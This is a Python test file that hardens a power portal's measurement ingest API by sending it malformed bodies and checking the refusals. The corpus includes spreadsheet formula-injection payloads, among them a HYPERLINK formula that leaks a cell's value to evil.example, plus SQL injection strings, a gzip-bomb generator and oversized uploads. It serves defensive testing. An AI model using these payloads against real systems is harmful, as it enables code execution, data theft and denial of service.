"""A corpus of bad bodies against ``POST /api/ingest/measurements``.

Each bad body gets its own status (400 malformed, 413 too large, 415 wrong type
or a compressed body, 422 invalid value) with a message naming the problem;
nothing of it is written; the portal stays healthy; the rows stored before are
all still there and a good batch afterwards is stored whole. The 100 MB bodies
go to a real ``portal serve`` process whose memory is measured.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import random
import select
import socket
import time
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import psutil
import pytest
from sqlalchemy.engine import URL

from power_portal.settings import Settings
from tests.support.database import sql, url_string
from tests.support.hardening import scaled
from tests.support.portal import (
    ADMIN_EMAIL,
    ADMIN_PASSWORD,
    LiveServer,
    MeteredDevice,
    PortalProcess,
    ingest,
    login_client,
)

T = "2026-05-01T10:00:00+02:00"
MB = 1024 * 1024


def row_json(value: str, field_name: str = "power_kw", time: str = T) -> bytes:
    return f'{{"measurements": [{{"time": "{time}", "{field_name}": {value}}}]}}'.encode()


def csv_body(*lines: str, encoding: str = "utf-8") -> bytes:
    return ("\r\n".join(lines) + "\r\n").encode(encoding)


def csv_line(*cells: str) -> str:
    """One properly quoted CSV line."""
    out = io.StringIO()
    csv.writer(out, lineterminator="").writerow(cells)
    return out.getvalue()


@dataclass(frozen=True)
class Bad:
    name: str
    body: bytes
    status: int
    fragment: str  # in the response's detail (lower case)
    content_type: str | None = "application/json"
    headers: dict[str, str] = field(default_factory=dict)


def gzip_bomb(inflated: int) -> bytes:
    """``inflated`` bytes of a JSON-looking body, gzip-compressed (about 1000:1)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)  # 31: the gzip container
    head = b'{"measurements": [{"time": "' + T.encode() + b'", "power_kw": 1'
    parts = [compressor.compress(head)]
    zeros = b"0" * MB
    for _ in range(inflated // MB):
        parts.append(compressor.compress(zeros))
    parts.append(compressor.compress(b"}]}"))
    parts.append(compressor.flush())
    return b"".join(parts)


def corpus() -> list[Bad]:
    noise = random.Random(10)  # the same garbage every run
    garbage = bytes(noise.getrandbits(8) for _ in range(64 * 1024))
    deep = 100_000
    formulas = [
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example/"&A1)',
        "\t=1+1",
    ]
    bads = [
        # numbers
        Bad("1e308 (finite, but overflows any sum)", row_json("1e308"), 422, "between"),
        Bad("-1e308", row_json("-1e308", "energy_import_kwh"), 422, "between"),
        Bad("1e13 (beyond any meter)", row_json("1e13"), 422, "between"),
        Bad("1e309 (overflows a double)", row_json("1e309"), 422, "finite"),
        Bad("10**400 as a JSON integer", row_json(str(10**400)), 422, "power_kw"),
        Bad("NaN token", row_json("NaN"), 422, "finite"),
        Bad("Infinity token", row_json("Infinity"), 422, "finite"),
        Bad("-Infinity token", row_json("-Infinity"), 422, "finite"),
        Bad("NaN as a string", row_json('"NaN"'), 422, "must be a number"),
        Bad("a number as a string", row_json('"12.5"'), 422, "must be a number"),
        Bad("true for a number", row_json("true"), 422, "must be a number"),
        Bad("an object for a number", row_json('{"$gt": 0}'), 422, "must be a number"),
        # structure
        Bad("100k nested arrays", b"[" * deep + b"]" * deep, 400, "recursion"),
        Bad(
            "100k nested objects in a value",
            row_json('{"a":' * deep + "1" + "}" * deep),
            400,
            "recursion",
        ),
        Bad("empty body", b"", 400, "malformed json"),
        Bad("a bare array", b'[{"time": "' + T.encode() + b'", "power_kw": 1}]', 400, "object"),
        Bad("measurements not a list", b'{"measurements": {}}', 400, "measurements"),
        Bad("no rows", b'{"measurements": []}', 422, "no rows"),
        Bad("unknown field", row_json("1", "power_kw; DROP TABLE app.sites"), 422, "unknown"),
        Bad("time without offset", row_json("1", time="2026-05-01T10:00:00"), 422, "offset"),
        Bad("time in year 1", row_json("1", time="0001-01-01T00:00:00Z"), 422, "time"),
        Bad("time in year 9999", row_json("1", time="9999-12-31T23:59:59+14:00"), 422, "future"),
        Bad("time with NUL", row_json("1", time="2026-05-01T10:00:00\\u0000+02:00"), 422, "time"),
        Bad("SQL in time", row_json("1", time="'; DROP TABLE app.sites; --"), 422, "time"),
        # bytes and encodings
        Bad("64 KB of binary as JSON", garbage, 400, "malformed json"),
        Bad("64 KB of binary as CSV", garbage, 400, "utf-8", "text/csv"),
        Bad(
            "UTF-16 JSON",
            row_json("1").decode().encode("utf-16"),
            400,
            "malformed json",
        ),
        Bad(
            "UTF-16 CSV",
            csv_body("time,power_kw", f"{T},1", encoding="utf-16"),
            400,
            "utf-8",
            "text/csv",
        ),
        Bad(
            "Latin-1 CSV",
            csv_body("time,power_kw", f"{T},12.5 \u00b0C", encoding="latin-1"),
            400,
            "utf-8",
            "text/csv",
        ),
        # CSV
        Bad("CSV without rows or header", b"", 400, "empty", "text/csv"),
        Bad(
            "CSV with an unclosed quote",
            csv_body("time,power_kw", f'{T},"12.5'),
            400,
            "malformed csv",
            "text/csv",
        ),
        Bad(
            "CSV with a newline inside a quoted number",
            csv_body("time,power_kw", f'{T},"12\n5"'),
            422,
            "power_kw",
            "text/csv",
        ),
        Bad(
            "CSV with a stray quote",
            csv_body("time,power_kw", f'{T},12"5'),
            422,
            "power_kw",
            "text/csv",
        ),
        Bad(
            "CSV with duplicate columns",
            csv_body("time,power_kw,power_kw", f"{T},1,2"),
            422,
            "appears twice",
            "text/csv",
        ),
        Bad(
            "CSV with a formula as a column name",
            csv_body("time,=cmd|' /C calc'!A0", f"{T},1"),
            422,
            "unknown column",
            "text/csv",
        ),
        Bad(
            "CSV with a formula as the time",
            csv_body("time,power_kw", "=NOW(),1"),
            422,
            "time",
            "text/csv",
        ),
        Bad(
            "CSV row longer than the header",
            csv_body("time,power_kw", f"{T},1,2"),
            422,
            "cells",
            "text/csv",
        ),
        Bad(
            "CSV with 1e308",
            csv_body("time,power_kw", f"{T},1e308"),
            422,
            "between",
            "text/csv",
        ),
        Bad("CSV with NaN", csv_body("time,power_kw", f"{T},NaN"), 422, "finite", "text/csv"),
        Bad("CSV with inf", csv_body("time,power_kw", f"{T},inf"), 422, "finite", "text/csv"),
        # content types and encodings
        Bad("JSON sent as text/csv", row_json("1"), 422, "unknown column", "text/csv"),
        Bad("CSV sent as JSON", csv_body("time,power_kw", f"{T},1"), 400, "malformed json"),
        Bad("XML", b"<measurements/>", 415, "content-type", "application/xml"),
        Bad("no Content-Type", row_json("1"), 415, "content-type", None),
        Bad("form data", b"time=1", 415, "content-type", "application/x-www-form-urlencoded"),
        Bad(
            "a 100 MB gzip bomb (Content-Encoding honoured?)",
            gzip_bomb(100 * MB),
            415,
            "content-encoding",
            headers={"Content-Encoding": "gzip"},
        ),
        Bad(
            "deflate",
            zlib.compress(row_json("1")),
            415,
            "content-encoding",
            headers={"Content-Encoding": "deflate"},
        ),
        Bad(
            "gzip as a CSV",
            gzip.compress(csv_body("time,power_kw", f"{T},1")),
            415,
            "content-encoding",
            "text/csv",
            headers={"Content-Encoding": "gzip"},
        ),
    ]
    for formula in formulas:
        bads.append(
            Bad(
                f"CSV formula {formula!r}",
                csv_body("time,power_kw", csv_line(T, formula)),
                422,
                "power_kw",
                "text/csv",
            )
        )
        bads.append(Bad(f"JSON formula {formula!r}", row_json(json.dumps(formula)), 422, "number"))
    return bads


def post_raw(base_url: str, token: str, bad: Bad) -> httpx.Response:
    headers = {"Authorization": f"Bearer {token}", **bad.headers}
    if bad.content_type is not None:
        headers["Content-Type"] = bad.content_type
    return httpx.post(
        f"{base_url}/api/ingest/measurements", content=bad.body, headers=headers, timeout=60
    )


def good_rows(first_minute: int, count: int) -> list[dict[str, Any]]:
    """One reading a minute on 2026-05-02 (UTC), from ``first_minute`` on."""
    return [
        {
            "time": f"2026-05-02T{(first_minute + i) // 60:02d}:{(first_minute + i) % 60:02d}:00Z",
            "power_kw": 10.0 + i,
            "energy_import_kwh": 1000.0 + i,
        }
        for i in range(count)
    ]


def stored(db_url: URL) -> list[tuple[object, ...]]:
    return sql(
        db_url,
        "SELECT device_id, time, power_kw, energy_import_kwh FROM monitoring.power_measurements "
        "ORDER BY device_id, time",
    )


def test_bad_bodies_are_refused_naming_the_problem_and_nothing_is_written(
    live_server: LiveServer,
    make_device: Callable[..., MeteredDevice],
    db_url: URL,
    hardening_report: Callable[..., None],
) -> None:
    device = make_device()
    first = ingest(live_server.url, device.token, good_rows(0, 60))
    assert first.json() == {"accepted": 60, "duplicates": 0}
    before = stored(db_url)
    bads = corpus()
    slowest = 0.0
    wrong: list[str] = []
    for bad in bads:
        started = time.monotonic()
        response = post_raw(live_server.url, device.token, bad)
        slowest = max(slowest, time.monotonic() - started)
        detail = json.dumps(response.json()["detail"]).lower()
        if response.status_code != bad.status or bad.fragment not in detail:
            wrong.append(f"{bad.name}: {response.status_code} {detail[:300]}")
        assert len(response.content) < 20_000, (bad.name, "the reply echoes the input")
        assert stored(db_url) == before, (bad.name, "something was written")
    assert not wrong, "\n".join(wrong)
    assert httpx.get(f"{live_server.url}/api/health").json()["status"] == "ok"
    after = ingest(live_server.url, device.token, good_rows(60, 60))
    assert after.json() == {"accepted": 60, "duplicates": 0}
    rows = stored(db_url)
    rows_lost = len(before) + 60 - len(rows)
    assert rows[: len(before)] == before
    hardening_report(
        bad_inputs=len(bads),
        statuses=" ".join(
            f"{status}x{sum(b.status == status for b in bads)}" for status in (400, 415, 422)
        ),
        slowest_ms=slowest * 1000,
        rows_written_by_bad_bodies=0,
        rows_lost=rows_lost,
    )
    assert rows_lost == 0


def test_values_a_spreadsheet_reads_as_formulas_are_only_ever_stored_as_numbers(
    live_server: LiveServer, make_device: Callable[..., MeteredDevice], db_url: URL
) -> None:
    """A '+' or '-' sign is a number's sign: stored as a float, so nothing can survive as text."""
    device = make_device()
    body = csv_body(
        "time,power_kw,current_l1_a", f"{T},+12.5,-3", "2026-05-01T10:01:00+02:00,-0,+1e3"
    )
    response = post_raw(live_server.url, device.token, Bad("signs", body, 200, "", "text/csv"))
    assert response.json() == {"accepted": 2, "duplicates": 0}
    assert sql(
        db_url,
        "SELECT power_kw, current_l1_a, pg_typeof(power_kw)::text "
        "FROM monitoring.power_measurements ORDER BY time",
    ) == [(12.5, -3.0, "double precision"), (-0.0, 1000.0, "double precision")]


def test_a_duplicate_json_key_means_its_last_value(
    live_server: LiveServer, make_device: Callable[..., MeteredDevice], db_url: URL
) -> None:
    """Like every JSON parser (msgspec and pydantic agree); only the fast path can accept."""
    device = make_device()
    body = f'{{"measurements": [{{"time": "{T}", "power_kw": 1, "power_kw": 2}}]}}'
    ok = post_raw(live_server.url, device.token, Bad("duplicate key", body.encode(), 200, ""))
    assert ok.json() == {"accepted": 1, "duplicates": 0}
    assert sql(db_url, "SELECT power_kw FROM monitoring.power_measurements") == [(2.0,)]


def test_many_bad_rows_give_a_bounded_answer_quickly(
    live_server: LiveServer, make_device: Callable[..., MeteredDevice], db_url: URL
) -> None:
    device = make_device()
    rows = [{"time": T, "power_kw": "x"} for _ in range(scaled(20_000, 100_000))]
    started = time.monotonic()
    response = ingest(live_server.url, device.token, rows)
    took = time.monotonic() - started
    assert response.status_code == 422
    assert len(response.json()["detail"]) == 20  # the first 20 problems, not 100,000
    assert len(response.content) < 10_000
    assert took < 10, took
    assert sql(db_url, "SELECT count(*) FROM monitoring.power_measurements") == [(0,)]


# ---------------------------------------------------------------- 100 MB bodies


@dataclass
class Upload:
    status: int
    reply: str
    bytes_sent: int
    seconds: float


def stream_upload(port: int, token: str, total: int, *, declare_length: bool) -> Upload:
    """Send a ``total``-byte body in 64 KB chunks, stopping as soon as the portal answers.

    A raw socket: the portal answers (and closes) long before the body ends, which an
    HTTP client library reports as a broken pipe instead of the answer.
    """
    head = [
        "POST /api/ingest/measurements HTTP/1.1",
        f"Host: 127.0.0.1:{port}",
        f"Authorization: Bearer {token}",
        "Content-Type: application/json",
    ]
    head.append(f"Content-Length: {total}" if declare_length else "Transfer-Encoding: chunked")
    chunk = b"[" * (64 * 1024)
    started = time.monotonic()
    sent = 0
    with socket.create_connection(("127.0.0.1", port), timeout=30) as sock:
        sock.sendall(("\r\n".join(head) + "\r\n\r\n").encode())
        try:
            while sent < total:
                readable, writable, _ = select.select([sock], [sock], [], 5)
                if readable:
                    break  # the answer is there: stop sending
                if not writable:
                    continue
                piece = chunk[: total - sent]
                if declare_length:
                    sock.sendall(piece)
                else:
                    sock.sendall(f"{len(piece):x}\r\n".encode() + piece + b"\r\n")
                sent += len(piece)
                if time.monotonic() - started > 60:
                    break
        except (BrokenPipeError, ConnectionResetError):
            pass
        reply = b""
        sock.settimeout(10)
        try:
            while not _complete(reply):
                data = sock.recv(65536)
                if not data:
                    break
                reply += data
        except (TimeoutError, ConnectionResetError):
            pass
    seconds = time.monotonic() - started
    status_line = reply.split(b"\r\n", 1)[0].decode(errors="replace")
    status = int(status_line.split()[1]) if status_line.startswith("HTTP/") else 0
    return Upload(status, reply.decode(errors="replace"), sent, seconds)


@pytest.mark.slow
def test_a_100_mb_body_gets_413_quickly_without_being_read_or_held(
    portal_process: Callable[..., PortalProcess],
    db_url: URL,
    hardening_report: Callable[..., None],
) -> None:
    portal = portal_process(
        PORTAL_DATABASE_URL=url_string(db_url), PORTAL_ADMIN_PASSWORD=ADMIN_PASSWORD
    )
    portal.start()
    assert portal.process is not None
    admin = login_client(portal.url, ADMIN_EMAIL, ADMIN_PASSWORD)
    site = admin.post("/api/sites", json={"name": "Big", "timezone": "UTC"}).json()
    device = admin.post(
        f"/api/sites/{site['id']}/devices", json={"name": "Big", "serial": "BIG-1"}
    ).json()
    token = admin.post(f"/api/devices/{device['id']}/tokens", json={}).json()["token"]
    admin.close()
    warm = ingest(portal.url, token, good_rows(0, 1000))
    assert warm.status_code == 200
    rss_before = psutil.Process(portal.process.pid).memory_info().rss
    peak_before = _vm_hwm(portal.process.pid)
    total = 100 * MB
    declared = stream_upload(portal.port, token, total, declare_length=True)
    chunked = stream_upload(portal.port, token, total, declare_length=False)
    peak_after = _vm_hwm(portal.process.pid)
    for upload in (declared, chunked):
        assert upload.status == 413, upload.reply[:300]
        assert "10485760-byte limit" in upload.reply
        assert upload.seconds < 15, upload.seconds
    # Declared too large: refused from the headers, before the body is read at all (what
    # was sent meanwhile sits in the loopback socket buffers, unread).
    assert declared.bytes_sent < 40 * MB, declared.bytes_sent
    # Chunked: read up to the 10 MB limit, then refused.
    assert chunked.bytes_sent < 50 * MB, chunked.bytes_sent
    grew = max(0, peak_after - peak_before)
    assert grew < 60 * MB, f"peak RSS grew by {grew / MB:.0f} MB"
    assert httpx.get(f"{portal.url}/api/health").json()["status"] == "ok"
    assert sql(db_url, "SELECT count(*) FROM monitoring.power_measurements") == [(1000,)]
    hardening_report(
        body_mb=total // MB,
        declared_sent_mb=declared.bytes_sent / MB,
        declared_ms=declared.seconds * 1000,
        chunked_sent_mb=chunked.bytes_sent / MB,
        chunked_ms=chunked.seconds * 1000,
        rss_mb=rss_before / MB,
        peak_rss_growth_mb=grew / MB,
        rows_lost=0,
    )


def _complete(reply: bytes) -> bool:
    head, separator, body = reply.partition(b"\r\n\r\n")
    if not separator:
        return False
    for line in head.split(b"\r\n"):
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"content-length":
            return len(body) >= int(value)
    return False


def _vm_hwm(pid: int) -> int:
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmHWM:"):
                return int(line.split()[1]) * 1024
    raise AssertionError(f"no VmHWM for {pid}")


# ---------------------------------------------------------------- fleet ingest


def test_bad_fleet_batches_are_refused_or_rejected_never_a_500(
    make_database: Callable[[], URL], tmp_path: Path, hardening_report: Callable[..., None]
) -> None:
    """The admin stack's ingest takes the same kind of abuse from a customer token."""
    db_url = make_database()
    server = LiveServer(
        Settings(
            database_url=url_string(db_url),
            data_dir=tmp_path / "admin",
            run_mode="admin",
            admin_password=ADMIN_PASSWORD,
        )
    )
    server.start()
    try:
        admin = login_client(server.url, ADMIN_EMAIL, ADMIN_PASSWORD)
        token = admin.post("/api/fleet/customers", json={"code": "acme", "name": "Acme"}).json()[
            "token"
        ]
        admin.close()

        def push(batch_type: str, body: bytes, **headers: str) -> httpx.Response:
            return httpx.post(
                f"{server.url}/api/fleet/ingest",
                content=body,
                headers={
                    "X-Customer-Token": token,
                    "X-Batch-Type": batch_type,
                    "Content-Type": "application/json",
                    **headers,
                },
                timeout=30,
            )

        def items(*entries: str) -> bytes:
            return ('{"items": [' + ", ".join(entries) + "]}").encode()

        measurement = '{{"device_id": {device}, "time": "{t}", "power_kw": {value}}}'
        refused = [
            ("measurements", b"[" * 100_000 + b"]" * 100_000, 400),
            ("measurements", b"\xff\xfe garbage", 400),
            ("measurements", b'{"items": {}}', 400),
            ("sites", gzip_bomb(10 * MB), 415),
        ]
        for batch_type, body, status in refused:
            headers = {"Content-Encoding": "gzip"} if status == 415 else {}
            response = push(batch_type, body, **headers)
            assert response.status_code == status, (batch_type, response.text[:300])
        # item by item: the bad ones are counted as rejected, the good ones stored
        bad_values = ["1e308", "-1e13", str(10**400), "NaN", "Infinity", '"12"', "true"]
        body = items(
            *(measurement.format(device=1, t=T, value=v) for v in bad_values),
            measurement.format(device=2**63, t=T, value=1),
            measurement.format(device=10**30, t=T, value=1),
            measurement.format(device=1, t="2026-05-01T10:05:00+02:00", value=5),
        )
        mixed = push("measurements", body)
        assert mixed.status_code == 200, mixed.text
        assert mixed.json() == {"accepted": 1, "duplicates": 0, "rejected": 9}
        # the same site or device twice in one batch: the last one wins, no 500
        sites = push(
            "sites",
            items(
                '{"id": 1, "name": "first", "timezone": "UTC"}',
                '{"id": 1, "name": "second", "timezone": "UTC"}',
                '{"id": 2, "name": "nul\\u0000byte", "timezone": "UTC"}',
                '{"id": 99999999999999999999, "name": "huge", "timezone": "UTC"}',
            ),
        )
        assert sites.status_code == 200, sites.text
        assert sites.json() == {"accepted": 1, "duplicates": 1, "rejected": 2}
        devices = push(
            "devices",
            items(
                '{"id": 1, "site_id": 1, "name": "a", "serial": "S1"}',
                '{"id": 1, "site_id": 1, "name": "b", "serial": "S1"}',
            ),
        )
        assert devices.status_code == 200, devices.text
        assert devices.json() == {"accepted": 1, "duplicates": 1, "rejected": 0}
        assert sql(db_url, "SELECT name FROM fleet.sites") == [("second",)]
        assert sql(db_url, "SELECT name FROM fleet.devices") == [("b",)]
        assert sql(db_url, "SELECT count(*) FROM fleet.power_measurements") == [(1,)]
        assert httpx.get(f"{server.url}/api/health").json()["status"] == "ok"
    finally:
        server.stop()
    hardening_report(bad_inputs=len(refused) + len(bad_values) + 2 + 4 + 2, rows_lost=0)
